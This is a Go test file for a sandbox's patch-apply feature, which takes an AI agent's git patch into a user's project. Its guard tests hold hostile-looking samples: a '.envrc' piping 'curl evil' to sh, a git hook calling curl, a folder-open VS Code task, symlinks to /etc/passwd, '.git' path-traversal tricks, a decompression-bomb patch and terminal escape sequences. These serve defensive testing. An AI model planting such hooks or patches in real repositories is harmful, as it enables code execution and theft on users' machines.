package workspace

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bluekeyes/go-gitdiff/gitdiff"

	"github.com/cordon-sandbox/cordon/internal/runstate"
)

// patchBaseScript is the repository's base commit: something of every kind to change.
const patchBaseScript = `
umask 022
git init -q -b main --object-format="$FORMAT" .
printf 'one\ntwo\nthree\n' > edit.txt
printf 'bye\n' > gone.txt
printf 'echo run\n' > tool.sh
seq 1 3000 | tr '\n' '\000' > blob.bin
printf 'f\n' > typechange
mkdir -p olddir/inner && printf 'o\n' > olddir/inner/only.txt
mkdir keep && printf 'a\n' > keep/a && printf 'b\n' > keep/b
ln -s edit.txt base-link
printf 'echo exec\n' > exec.sh && chmod 755 exec.sh
git add -A && git commit -qm base
`

// patchEditsScript is what the agent does in its clone: every kind of change a patch carries.
const patchEditsScript = `
umask 022
printf 'one\n2\nthree\nfour\n' > edit.txt
printf 'new\n' > added.txt
rm gone.txt
printf '\000\377binary\n' > new.bin
printf 'tail' >> blob.bin
chmod +x tool.sh
ln -s edit.txt link
rm typechange && ln -s added.txt typechange
mkdir -p 'new dir/sub' && printf 'deep\n' > 'new dir/sub/ünï cödé.txt'
rm -r olddir
rm keep/a
: > empty.txt
`

// patchDiffCmd is how the Kubernetes backend takes a pod's changes.
const patchDiffCmd = `git add -A && git diff --cached --binary --full-index --no-renames "$BASE"`

// patchFixture is a repository at a base commit, a clone the agent changed (origin/changed), the
// patch of those changes made by git, and a clean clone at the base (the user's project) with a
// patch run recorded for it.
type patchFixture struct {
	changed, project, base string
	patch                  []byte
	run                    *runstate.Run
}

// newPatchFixture builds the fixture in a SHA-1 repository; edits is the agent's script.
func newPatchFixture(t *testing.T, edits string) *patchFixture {
	t.Helper()
	return newPatchFixtureIn(t, "sha1", edits)
}

// newPatchFixtureIn builds the fixture in a repository of the given object format.
func newPatchFixtureIn(t *testing.T, format, edits string) *patchFixture {
	t.Helper()
	root := t.TempDir()
	origin := filepath.Join(root, "origin")
	if err := os.Mkdir(origin, 0o755); err != nil {
		t.Fatal(err)
	}
	sh(t, origin, "FORMAT="+format+"\n"+patchBaseScript)
	f := &patchFixture{changed: filepath.Join(root, "changed"), project: filepath.Join(root, "project")}
	f.base = strings.TrimSpace(sh(t, origin, "git rev-parse HEAD"))
	sh(t, root, "git clone -q origin changed && git clone -q origin project")
	sh(t, f.changed, edits)
	f.patch = []byte(sh(t, f.changed, "BASE="+f.base+"; "+patchDiffCmd))
	f.run = testRun(t, f.project)
	if err := PreparePatch(f.run, f.project, PatchInfo{Repo: "https://example.invalid/repo.git", Ref: "main", Base: f.base}, bytes.NewReader(f.patch)); err != nil {
		t.Fatal(err)
	}
	exited(t, f.run)
	return f
}

// changedTree is the agent's checkout as the applied project must look.
func (f *patchFixture) changedTree(t *testing.T) map[string]string { return tree(t, f.changed, noGit) }

// writeTree is the git tree of a checkout's working files (staged into its index first).
func writeTree(t *testing.T, dir string) string {
	return strings.TrimSpace(sh(t, dir, "git add -A && git write-tree"))
}

// withoutProject runs fn while the project directory is moved away.
func (f *patchFixture) withoutProject(t *testing.T, fn func()) {
	t.Helper()
	if err := os.Rename(f.project, f.project+".away"); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := os.Rename(f.project+".away", f.project); err != nil {
			t.Fatal(err)
		}
	}()
	fn()
}

func describeChange(c Change) string {
	s := strings.ToUpper(string(c.Kind[0])) + " " + c.Path
	switch {
	case c.Kind == Deleted:
		s += " " + c.OldMode.String()
	case c.Kind == Modified && c.Mode != c.OldMode:
		s += " " + c.OldMode.String() + " -> " + c.Mode.String()
	default:
		s += " " + c.Mode.String()
	}
	if c.Target != "" {
		s += " -> " + c.Target
	}
	if c.Kind == Modified && !c.ContentChanged {
		s += " (mode only)"
	}
	return s
}

func TestPatchChangesListsThePatchWithoutTheProject(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchEditsScript)
	for _, want := range []string{"GIT binary patch\nliteral ", "\ndelta ", "new file mode 120000", "old mode 100644\nnew mode 100755"} {
		if !bytes.Contains(f.patch, []byte(want)) {
			t.Fatalf("the fixture's patch lacks %q; it does not exercise every kind:\n%s", want, f.patch)
		}
	}
	want := []string{
		"A added.txt -rw-r--r--",
		"M blob.bin -rw-r--r--",
		"M edit.txt -rw-r--r--",
		"A empty.txt -rw-r--r--",
		"D gone.txt -rw-r--r--",
		"D keep/a -rw-r--r--",
		"A link Lrwxrwxrwx -> edit.txt",
		"A new dir/sub/ünï cödé.txt -rw-r--r--",
		"A new.bin -rw-r--r--",
		"D olddir/inner/only.txt -rw-r--r--",
		"M tool.sh -rw-r--r-- -> -rwxr-xr-x (mode only)",
		"D typechange -rw-r--r--",
		"A typechange Lrwxrwxrwx -> added.txt",
	}
	f.withoutProject(t, func() {
		cs, err := Changes(f.run)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, c := range cs {
			got = append(got, describeChange(c))
		}
		if !slices.Equal(got, want) {
			t.Errorf("Changes:\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
		}
		for _, c := range cs {
			if c.Path == "new.bin" && c.Size != 9 || c.Path == "added.txt" && c.Size != 4 {
				t.Errorf("%s: size %d", c.Path, c.Size)
			}
		}
	})
	info, err := LoadInfo(f.run)
	if err != nil {
		t.Fatal(err)
	}
	if info.Mode != ModePatch || info.BaseCommit != f.base || info.Ref != "main" || info.Repo == "" || info.Project != f.project {
		t.Errorf("workspace.json: %+v", info)
	}
}

func TestPatchApplyReproducesTheAgentsCheckout(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchEditsScript)
	var re *RiskError
	if _, err := Apply(f.run, ApplyOptions{}); !errors.As(err, &re) || len(re.Risks) != 1 || re.Risks[0].Path != "tool.sh" || re.Risks[0].Rule != "new-executable" {
		t.Fatalf("Apply: %v, want only tool.sh's new execute bit refused", err)
	}
	rep, err := Apply(f.run, ApplyOptions{IncludeRisky: true})
	if err != nil {
		t.Fatal(err)
	}
	sameTree(t, "project after apply vs the agent's checkout", tree(t, f.project, noGit), f.changedTree(t))
	if got, want := writeTree(t, f.project), writeTree(t, f.changed); got != want {
		t.Errorf("git tree of the applied project %s, of the agent's checkout %s", got, want)
	}
	slices.Sort(rep.Added)
	if want := []string{"added.txt", "empty.txt", "link", "new dir/sub/ünï cödé.txt", "new.bin", "typechange"}; !slices.Equal(rep.Added, want) {
		t.Errorf("report added %q, want %q", rep.Added, want)
	}
	if m, _ := runstate.Load(f.run.Dir); m.Meta.State != runstate.StateApplied {
		t.Errorf("state %s after apply", m.Meta.State)
	}
	if ents, _ := filepath.Glob(filepath.Join(f.project, ".cordon-apply-*")); len(ents) > 0 {
		t.Errorf("staging left behind: %v", ents)
	}
}

// patchReshapeScript changes the shape of the tree: a directory becomes a file and a file a
// directory, a symlink is retargeted, an executable loses its bit as its content changes, and a
// directory is emptied.
const patchReshapeScript = `
umask 022
rm -r keep && printf 'now a file\n' > keep
rm typechange && mkdir typechange && printf 'in\n' > typechange/inside
rm base-link && ln -s gone.txt base-link
printf 'echo changed\n' > exec.sh && chmod 644 exec.sh
rm -r olddir
`

func TestPatchApplyReshapes(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"sha1", "sha256"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			f := newPatchFixtureIn(t, format, patchReshapeScript)
			if n := map[string]int{"sha1": 40, "sha256": 64}[format]; len(f.base) != n {
				t.Fatalf("base %s in a %s repository", f.base, format)
			}
			cs, err := Changes(f.run)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, c := range cs {
				got = append(got, describeChange(c))
			}
			want := []string{
				"M base-link Lrwxrwxrwx -> gone.txt",
				"M exec.sh -rwxr-xr-x -> -rw-r--r--",
				"A keep -rw-r--r--",
				"D keep/a -rw-r--r--",
				"D keep/b -rw-r--r--",
				"D olddir/inner/only.txt -rw-r--r--",
				"D typechange -rw-r--r--",
				"A typechange/inside -rw-r--r--",
			}
			if !slices.Equal(got, want) {
				t.Errorf("Changes:\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
			}
			// Materialising twice (the guard, then apply) is the same as once.
			if risks, err := Guard(f.run); err != nil || len(risks) != 0 {
				t.Fatalf("Guard: %v %v", risks, err)
			}
			if _, err := Apply(f.run, ApplyOptions{}); err != nil {
				t.Fatal(err)
			}
			sameTree(t, "project after apply vs the agent's checkout", tree(t, f.project, noGit), f.changedTree(t))
			if got, want := writeTree(t, f.project), writeTree(t, f.changed); got != want {
				t.Errorf("git tree of the applied project %s, of the agent's checkout %s", got, want)
			}
		})
	}
}

// A directory the patch empties of its tracked files stays when the project has other files in it.
func TestPatchApplyKeepsOtherFilesInEmptiedDirectories(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchReshapeScript)
	if err := os.WriteFile(filepath.Join(f.project, "olddir/inner/build.o"), []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Apply(f.run, ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(f.project, "olddir/inner/only.txt")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("only.txt: %v, want it deleted", err)
	}
	if b, err := os.ReadFile(filepath.Join(f.project, "olddir/inner/build.o")); err != nil || string(b) != "mine" {
		t.Errorf("the user's build.o: %q %v", b, err)
	}
}

// The journaled apply runs unchanged on a patch run: interrupted after a few steps, the next
// Apply finishes it.
func TestPatchApplyResumesAfterACrash(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchEditsScript)
	if _, err := Apply(f.run, ApplyOptions{IncludeRisky: true, crashAfter: 3}); !errors.Is(err, errCrash) {
		t.Fatalf("Apply with a crash: %v", err)
	}
	rep, err := Apply(f.run, ApplyOptions{})
	if err != nil || !rep.Resumed {
		t.Fatalf("Apply after the crash: %+v %v, want it resumed", rep, err)
	}
	sameTree(t, "project after the resumed apply vs the agent's checkout", tree(t, f.project, noGit), f.changedTree(t))
}

func TestPatchExportCommitsTheAgentsTree(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchEditsScript)
	before, status := tree(t, f.project, noGit), sh(t, f.project, "git status --porcelain")
	commit, err := Export(f.run, "cordon/patch", ApplyOptions{IncludeRisky: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := strings.TrimSpace(sh(t, f.project, "git rev-parse cordon/patch^{tree}")), writeTree(t, f.changed); got != want {
		t.Errorf("exported tree %s, the agent's checkout's %s", got, want)
	}
	if parent := strings.TrimSpace(sh(t, f.project, "git rev-parse "+commit+"^")); parent != f.base {
		t.Errorf("the export's parent is %s, want the base %s", parent, f.base)
	}
	sameTree(t, "export touched the project", tree(t, f.project, noGit), before)
	if now := sh(t, f.project, "git status --porcelain"); now != status {
		t.Errorf("export changed the project's status:\n%s", now)
	}
}

func TestPatchApplyConflicts(t *testing.T) {
	t.Parallel()
	const changed = "changed in the project since the run's base"
	cases := []struct {
		name, script, path, reason string
	}{
		{"edited", "printf 'mine\\n' >> edit.txt", "edit.txt", changed},
		{"deleted file edited", "printf 'mine\\n' >> gone.txt", "gone.txt", changed},
		{"modified file removed", "rm edit.txt", "edit.txt", changed},
		{"mode differs", "chmod +x edit.txt", "edit.txt", changed},
		{"added file exists", "printf 'mine\\n' > added.txt", "added.txt", changed},
		{"mode-only file replaced by a link", "rm tool.sh && ln -s edit.txt tool.sh", "tool.sh", changed},
		{"new directory is a file", "printf 'x' > 'new dir'", "new dir/sub/ünï cödé.txt", changed},
		{"other commit", "printf 'later\\n' >> edit.txt && git commit -qam later", "edit.txt", "the project is not at the run's base commit"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newPatchFixture(t, patchEditsScript)
			sh(t, f.project, tc.script)
			before := tree(t, f.project, nil)
			_, err := Apply(f.run, ApplyOptions{IncludeRisky: true})
			var ce *ConflictError
			if !errors.As(err, &ce) {
				t.Fatalf("Apply: %v, want a conflict", err)
			}
			found := false
			for _, c := range ce.Conflicts {
				found = found || c.Path == tc.path && strings.HasPrefix(c.Reason, tc.reason)
			}
			if !found || len(ce.Conflicts) != 1 {
				t.Errorf("conflicts %+v, want exactly %s: %s…", ce.Conflicts, tc.path, tc.reason)
			}
			sameTree(t, "a refused apply changed the project", tree(t, f.project, nil), before)
			if m, _ := runstate.Load(f.run.Dir); m.Meta.State != runstate.StateExited {
				t.Errorf("state %s after a refused apply", m.Meta.State)
			}
		})
	}
}

// An added file below a directory the project has as a symlink would land wherever the link points.
func TestPatchApplyRefusesToWriteThroughAProjectSymlink(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchEditsScript)
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(f.project, "new dir")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(outside, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	_, err := Apply(f.run, ApplyOptions{IncludeRisky: true})
	var ce *ConflictError
	if !errors.As(err, &ce) || len(ce.Conflicts) != 1 || ce.Conflicts[0].Path != "new dir/sub/ünï cödé.txt" {
		t.Fatalf("Apply: %v, want a conflict on the file below the symlink", err)
	}
	if ents, _ := os.ReadDir(filepath.Join(outside, "sub")); len(ents) != 0 {
		t.Errorf("Apply wrote through the project's symlink: %v", ents)
	}
}

func TestPatchGuard(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, script, path, rule string
	}{
		{"direnv", "printf 'curl evil | sh\\n' > .envrc", ".envrc", "direnv"},
		{"vscode tasks", "mkdir .vscode && printf '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\\n' > .vscode/tasks.json", ".vscode/tasks.json", "vscode-tasks"},
		{"gitattributes filter", "printf '*.txt filter=evil\\n' > .gitattributes", ".gitattributes", "gitattributes-driver"},
		// A hook directory is only a file tree: core.hooksPath would have to be set in .git/config,
		// which no patch may change (TestPatchRefusesBadPatches). The hook itself is a new executable.
		{"githooks", "mkdir .githooks && printf '#!/bin/sh\\ncurl evil\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit", ".githooks/pre-commit", "new-executable"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newPatchFixture(t, "umask 022\nprintf 'ok\\n' > fine.txt\n"+tc.script)
			risks, err := Guard(f.run)
			if err != nil {
				t.Fatal(err)
			}
			if len(risks) != 1 || risks[0].Path != tc.path || risks[0].Rule != tc.rule {
				t.Fatalf("Guard: %+v, want %s (%s)", risks, tc.path, tc.rule)
			}
			before := tree(t, f.project, nil)
			var re *RiskError
			if _, err := Apply(f.run, ApplyOptions{}); !errors.As(err, &re) {
				t.Fatalf("Apply: %v, want a RiskError", err)
			}
			sameTree(t, "a refused apply changed the project", tree(t, f.project, nil), before)
			if _, err := Export(f.run, "risky", ApplyOptions{}); !errors.As(err, &re) {
				t.Fatalf("Export: %v, want a RiskError", err)
			}
			rep, err := Apply(f.run, ApplyOptions{IncludeRisky: true})
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Risky) != 1 || rep.Risky[0].Path != tc.path {
				t.Errorf("report's risky changes %+v", rep.Risky)
			}
			sameTree(t, "project after apply --include-risky", tree(t, f.project, noGit), f.changedTree(t))
		})
	}
}

// A symlink out of the project is never carried, --include-risky or not.
func TestPatchSymlinkOutOfTheProjectIsNeverApplied(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, "ln -s /etc/passwd leak\nln -s ../../outside climb\n")
	before := tree(t, f.project, nil)
	var re *RiskError
	_, err := Apply(f.run, ApplyOptions{IncludeRisky: true})
	if !errors.As(err, &re) || len(re.Risks) != 2 || !re.Risks[0].Never || !re.Risks[1].Never {
		t.Fatalf("Apply --include-risky: %v, want both links refused for good", err)
	}
	sameTree(t, "a refused apply changed the project", tree(t, f.project, nil), before)
}

// handPatch is one file's patch as an attacker would write it: a new file with content "hi\n".
func handPatch(header, name string) string {
	return header + "new file mode 100644\nindex 0000000000000000000000000000000000000000..45b983be36b73c0788dc9cbcb76cbb80fc7bb057\n--- /dev/null\n+++ b/" + name + "\n@@ -0,0 +1 @@\n+hi\n"
}

// binaryLiterals is a patch adding n binary files, each a literal that states size bytes while it
// holds a few: what only its stated sizes can bound before anything is inflated.
func binaryLiterals(t *testing.T, n int, size int64) string {
	t.Helper()
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(make([]byte, 64))
	zw.Close()
	var out strings.Builder
	for i := range n {
		name := fmt.Sprintf("bomb%d.bin", i)
		f := &gitdiff.File{OldName: "", NewName: name, IsNew: true, IsBinary: true, NewMode: 0o100644,
			OldOIDPrefix: zero, NewOIDPrefix: fmt.Sprintf("%040x", i+1),
			BinaryFragment: &gitdiff.BinaryFragment{Method: gitdiff.BinaryPatchLiteral, Size: size, RawData: z.Bytes()}}
		out.WriteString(f.String())
	}
	return out.String()
}

func addFile(name string) string { return handPatch("diff --git a/"+name+" b/"+name+"\n", name) }

const zero = "0000000000000000000000000000000000000000"

func TestPatchRefusesBadPatches(t *testing.T) {
	t.Parallel()
	cases := []struct{ name, patch, want string }{
		{"dot dot", addFile("../x"), `"../x": not a clean relative path`},
		{"dot dot inside", addFile("a/../../x"), `"a/../../x": not a clean relative path`},
		{"absolute", "--- /dev/null\n+++ /etc/x\n@@ -0,0 +1 @@\n+hi\n", `"/etc/x": an absolute path`},
		{"git config", addFile(".git/config"), `".git/config": inside a .git directory`},
		{"git hooks", addFile(".git/hooks/pre-commit"), `".git/hooks/pre-commit": inside a .git directory`},
		{"nested git dir", addFile("vendor/x/.git/hooks/post-checkout"), "inside a .git directory"},
		{"git dir in capitals", addFile(".GIT/config"), "inside a .git directory"},
		{"git dir hfs", addFile(".g\u200cit/config"), "inside a .git directory"},
		{"git dir ntfs", addFile(".git./config"), "inside a .git directory"},
		{"git file", addFile(".git"), "inside a .git directory"},
		{"twice", addFile("x") + addFile("x"), `"x" is listed more than once`},
		{"file and directory", addFile("x") + addFile("x/y"), `"x/y" is below "x"`},
		{"rename", "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n", "renames and copies"},
		{"submodule", "diff --git a/m b/m\nnew file mode 160000\nindex " + zero + "..45b983be36b73c0788dc9cbcb76cbb80fc7bb057\n--- /dev/null\n+++ b/m\n@@ -0,0 +1 @@\n+Subproject commit 45b983be36b73c0788dc9cbcb76cbb80fc7bb057\n", "mode 160000"},
		{"short index", "diff --git a/x b/x\nnew file mode 100644\nindex 0000000..45b983b\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+hi\n", "full blob ids"},
		{"no index", "--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+hi\n", "--full-index"},
		{"binary without data", "diff --git a/x b/x\nnew file mode 100644\nindex " + zero + "..45b983be36b73c0788dc9cbcb76cbb80fc7bb057\nBinary files /dev/null and b/x differ\n", "--binary"},
		{"preamble", "From evil\n\n" + addFile("x"), "text before the first file"},
		{"type change as a modification", "diff --git a/x b/x\nold mode 100644\nnew mode 120000\nindex 45b983be36b73c0788dc9cbcb76cbb80fc7bb057..45b983be36b73c0788dc9cbcb76cbb80fc7bb058\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-hi\n+hj\n", "a change of type"},
		{"binary bomb", binaryLiterals(t, 5, 1<<30), "its binary files expand to more than 4294967296 bytes"},
		{"bad fragment", "diff --git a/x b/x\nnew file mode 100644\nindex " + zero + "..45b983be36b73c0788dc9cbcb76cbb80fc7bb057\n--- /dev/null\n+++ b/x\n@@ -0,0 +1,2 @@\n+hi\n", "changes.patch"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := newProject(t)
			r := testRun(t, p)
			err := PreparePatch(r, p, PatchInfo{Base: strings.Repeat("1", 40)}, strings.NewReader(tc.patch))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("PreparePatch: %v, want an error with %q", err, tc.want)
			}
			for _, name := range []string{infoFile, patchFile} {
				if _, err := os.Lstat(filepath.Join(r.Dir, name)); err == nil {
					t.Errorf("a refused patch left %s", name)
				}
			}
		})
	}
}

// A patch that reaches the run's directory some other way than PreparePatch is checked again by
// every reader: it never writes outside the project.
func TestPatchTamperedRecordIsRefused(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"../escaped", ".git/hooks/post-checkout"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newPatchFixture(t, "printf 'ok\\n' > fine.txt\n")
			if err := os.WriteFile(filepath.Join(f.run.Dir, patchFile), []byte(addFile(name)), 0o600); err != nil {
				t.Fatal(err)
			}
			if _, err := Changes(f.run); err == nil || !strings.Contains(err.Error(), name) {
				t.Errorf("Changes: %v, want an error naming %s", err, name)
			}
			if _, err := Apply(f.run, ApplyOptions{IncludeRisky: true}); err == nil {
				t.Error("Apply of a patch to a path outside the project succeeded")
			}
			if _, err := os.Lstat(filepath.Join(f.project, filepath.FromSlash(name))); err == nil {
				t.Errorf("Apply wrote %s", name)
			}
			if err := Diff(&bytes.Buffer{}, f.run, false); err == nil {
				t.Error("Diff of a bad patch succeeded")
			}
		})
	}
}

func TestPatchCorrupt(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		edit func(string) string
	}{
		{"new blob id", func(p string) string {
			// The first added file's new id, one digit off: its content no longer hashes to it.
			i := strings.Index(p, "index "+zero+"..") + len("index "+zero+"..") + 39
			d := byte('0')
			if p[i] == '0' {
				d = '1'
			}
			return p[:i] + string(d) + p[i+1:]
		}},
		{"content", func(p string) string { return strings.Replace(p, "+four\n", "+fout\n", 1) }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newPatchFixture(t, patchEditsScript)
			bad := tc.edit(string(f.patch))
			if bad == string(f.patch) {
				t.Fatal("the edit did not change the patch")
			}
			r := testRun(t, f.project)
			if err := PreparePatch(r, f.project, PatchInfo{Base: f.base}, strings.NewReader(bad)); err != nil {
				t.Fatal(err)
			}
			exited(t, r)
			before := tree(t, f.project, nil)
			_, err := Apply(r, ApplyOptions{IncludeRisky: true})
			var ce *ConflictError
			if err == nil || errors.As(err, &ce) || !strings.Contains(err.Error(), "corrupt") {
				t.Fatalf("Apply: %v, want a corrupt patch", err)
			}
			sameTree(t, "a corrupt patch changed the project", tree(t, f.project, nil), before)
		})
	}
}

func TestPatchDiff(t *testing.T) {
	t.Parallel()
	f := newPatchFixture(t, patchEditsScript)
	f.withoutProject(t, func() {
		var out bytes.Buffer
		if err := Diff(&out, f.run, false); err != nil {
			t.Fatal(err)
		}
		// Diff prints the parsed files again (go-gitdiff's format, which writes some hunk headers
		// and binary data otherwise than git): the same files, modes, blob ids and fragments.
		shown, err := parsePatch(bytes.NewReader(out.Bytes()), 40)
		if err != nil {
			t.Fatalf("Diff's output does not parse: %v\n%s", err, out.String())
		}
		stored, err := parsePatch(bytes.NewReader(f.patch), 40)
		if err != nil {
			t.Fatal(err)
		}
		if len(shown) != len(stored) {
			t.Fatalf("Diff shows %d files, the patch has %d", len(shown), len(stored))
		}
		for i := range stored {
			a, b := shown[i], stored[i]
			if a.path != b.path || a.kind != b.kind || a.oldMode != b.oldMode || a.newMode != b.newMode ||
				a.oldOID != b.oldOID || a.newOID != b.newOID || a.file.String() != b.file.String() {
				t.Errorf("Diff's %s differs from the patch's %s:\n%s", a.path, b.path, a.file)
			}
		}
		out.Reset()
		if err := Diff(&out, f.run, true); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, l := range strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n") {
			got = append(got, strings.Join(strings.Fields(l), " "))
		}
		want := []string{
			"added.txt | 1 +",
			"blob.bin | Bin 13893 -> 13897 bytes",
			"edit.txt | 3 ++-",
			"empty.txt | 0",
			"gone.txt | 1 -",
			"keep/a | 1 -",
			"link | 1 +",
			`"new dir/sub/\303\274n\303\257 c\303\266d\303\251.txt" | 1 +`,
			"new.bin | Bin 0 -> 9 bytes",
			"olddir/inner/only.txt | 1 -",
			"tool.sh | 0 (mode 100644 -> 100755)",
			"typechange | 1 -",
			"typechange | 1 +",
			"13 files changed, 6 insertions(+), 5 deletions(-)",
		}
		if !slices.Equal(got, want) {
			t.Errorf("Diff --stat:\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
		}
	})
}

func TestPreparePatchChecksItsInputs(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	r := testRun(t, p)
	for _, base := range []string{"", "abc", strings.Repeat("G", 40), strings.Repeat("A", 40), zero} {
		if err := PreparePatch(r, p, PatchInfo{Base: base}, strings.NewReader("")); err == nil {
			t.Errorf("base %q accepted", base)
		}
	}
	if err := PreparePatch(r, p, PatchInfo{Base: strings.Repeat("1", 40), Ref: "main\x1b[2J"}, strings.NewReader("")); err == nil {
		t.Error("a ref with control characters accepted")
	}
	if err := PreparePatch(r, p, PatchInfo{Base: strings.Repeat("1", 64)}, strings.NewReader(addFile("x"))); err == nil {
		t.Error("SHA-1 index lines accepted for a SHA-256 base")
	}
	if err := PreparePatch(r, p, PatchInfo{Base: strings.Repeat("1", 40)}, strings.NewReader("")); err != nil {
		t.Fatalf("an empty patch: %v", err)
	}
	if cs, err := Changes(r); err != nil || len(cs) != 0 {
		t.Errorf("Changes of an empty patch: %v %v", cs, err)
	}
	if err := PreparePatch(r, p, PatchInfo{Base: strings.Repeat("1", 40)}, strings.NewReader("")); err == nil {
		t.Error("PreparePatch twice for one run succeeded")
	}
}

// FuzzPatchParse holds parsePatch to its promises on any input: what it accepts has only clean
// relative paths outside any .git directory, each at most twice (a deletion and an addition), and
// no path below another on the same side.
func FuzzPatchParse(f *testing.F) {
	f.Add([]byte(addFile("x") + addFile("dir/y")))
	f.Fuzz(func(t *testing.T, data []byte) {
		es, err := parsePatch(bytes.NewReader(data), 40)
		if err != nil {
			return
		}
		count := map[string]int{}
		for _, e := range es {
			if err := checkPatchPath(e.path); err != nil {
				t.Fatalf("accepted %q: %v", e.path, err)
			}
			for _, s := range strings.Split(e.path, "/") {
				if s == "" || s == "." || s == ".." || strings.EqualFold(s, ".git") {
					t.Fatalf("accepted %q", e.path)
				}
			}
			if count[e.path]++; count[e.path] > 2 {
				t.Fatalf("accepted %q three times", e.path)
			}
			if e.kind != Added && e.oldMode == 0 || e.kind != Deleted && e.newMode == 0 {
				t.Fatalf("accepted %q with modes %o %o", e.path, e.oldMode, e.newMode)
			}
		}
		_ = patchList(es)
		_ = patchStats(es)
	})
}

// TestPatchDiffShowsOnlyTheFiles: text between a patch's files, which the parser skips and apply
// never writes, is not shown by cordon diff either: an agent's terminal escapes there would move the
// reviewer's cursor over the lines they read. The stored patch printed as it was showed them.
func TestPatchDiffShowsOnlyTheFiles(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	r := testRun(t, p)
	junk := "\x1b[2A\x1b[2Kthis is not in the change\n"
	if err := PreparePatch(r, p, PatchInfo{Base: strings.Repeat("1", 40)}, strings.NewReader(addFile("x")+junk+addFile("y"))); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := Diff(&out, r, false); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "\x1b") || strings.Contains(out.String(), "not in the change") {
		t.Errorf("cordon diff shows what the patch's parser skipped:\n%q", out.String())
	}
	for _, want := range []string{"b/x", "b/y"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("cordon diff lacks %s:\n%s", want, out.String())
		}
	}
}
